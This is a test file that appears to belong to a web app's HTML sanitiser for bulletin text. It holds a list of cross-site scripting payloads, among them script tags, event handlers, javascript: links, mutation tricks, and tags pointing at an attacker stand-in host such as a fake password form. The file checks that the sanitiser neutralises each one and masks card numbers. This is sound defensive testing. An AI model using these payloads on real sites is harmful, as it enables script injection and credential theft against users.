import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { hostile } from '../../../../testing/load/hostile.ts'
import { bulletinTags } from '../../../domain/reference/bulletins.ts'
import { hasText, sanitiseBulletin } from './sanitise.ts'

/** What has made browsers run a text that should only be shown. */
const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">all</p>',
  '<p onclick="alert(1)" onmouseover=alert(1) class=login id=sid>press</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/api/auth/logout">a</a>',
  '<a href="https://good.example" onclick="alert(1)" target="_self" rel="opener">a</a>',
  '<a href="https://good.example" ping="https://evil.example">a</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  '<p>unclosed <strong>and <em>crossed</strong></em>',
  '<',
  '<p',
  '<a href="https://x',
]

/** Fails where a text holds anything but the allowed tags, and links that lead out. */
function expectHarmless(html: string): void {
  for (const [tag, slash = '', name = '', rest = ''] of html.matchAll(/<(\/?)([^\s/>]*)([^>]*)>/g)) {
    expect(bulletinTags, tag).toContain(name)
    if (name !== 'a' || slash) expect(rest.replace(/^ \/$/, ''), tag).toBe('')
    else expect(rest, tag).toMatch(/^ href="(https?|mailto):[^"<>]*" rel="noopener noreferrer" target="_blank"$/)
  }
  expect(html.replace(/<\/?[a-z0-9]+[^<>]*>/g, '')).not.toContain('<')
}

describe('the text of a bulletin', () => {
  it.each([...attacks, ...hostile])('comes out harmless: %s', (attack) => {
    expectHarmless(sanitiseBulletin(attack))
    expectHarmless(sanitiseBulletin(`<p>before ${attack} after</p>`))
  })

  it('keeps what bulletins are made of', () => {
    const text =
      '<h2>Calendar</h2><p>Text <strong>bold</strong> <em>slanted</em> <u>under</u> <s>over</s> <code>E23</code><br /></p>' +
      '<ul><li><p>one</p></li></ul><ol><li><p>two</p></li></ol><blockquote><p>said</p></blockquote>'
    expect(sanitiseBulletin(text)).toBe(text)
    expect(sanitiseBulletin('<p><b>b</b><i>i</i></p><h1>h</h1>')).toBe('<p><strong>b</strong><em>i</em></p><h2>h</h2>')
  })

  it('lets a link lead out, in a window that knows nothing of ours', () => {
    expect(sanitiseBulletin('<a href="https://bank.example/a?b=1&c=2">rules</a>')).toBe(
      '<a href="https://bank.example/a?b=1&amp;c=2" rel="noopener noreferrer" target="_blank">rules</a>',
    )
    expect(sanitiseBulletin('<a href="mailto:help@bank.example">help</a>')).toContain('href="mailto:help@bank.example"')
  })

  it('keeps no full card number, neither as text nor in an address', () => {
    expect(sanitiseBulletin('<p>Card 4111 1111 1111 1111</p>')).toBe('<p>Card 411111••••••1111</p>')
    for (const path of ['4111111111111111', '4111%2D1111%2D1111%2D1111', '411111111111%31111'])
      expect(sanitiseBulletin(`<a href="https://x.example/${path}">card</a>`)).toBe('card')
  })

  it('says whether there is anything to read', () => {
    expect(['<p></p>', '<p>&nbsp;<br></p>', '<script>x</script>', ''].map(hasText)).toEqual([
      false,
      false,
      false,
      false,
    ])
    expect(['<p>.</p>', 'a < b'].map(hasText)).toEqual([true, true])
  })

  const piece = fc.oneof(
    fc.constantFrom(...attacks, ...bulletinTags.flatMap((tag) => [`<${tag}>`, `</${tag}>`])),
    fc.constantFrom('<', '>', '"', "'", '&', '&amp;', '&lt;', '&#x3c;', '<!--', '-->', '=', '/', ' '),
    fc.string({ unit: 'grapheme' }),
  )
  it('is the same when it is cleaned again, and harmless, whatever it was', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const once = sanitiseBulletin(pieces.join(''))
        expectHarmless(once)
        expect(sanitiseBulletin(once)).toBe(once)
      }),
      { numRuns: 1000 },
    )
  })
})
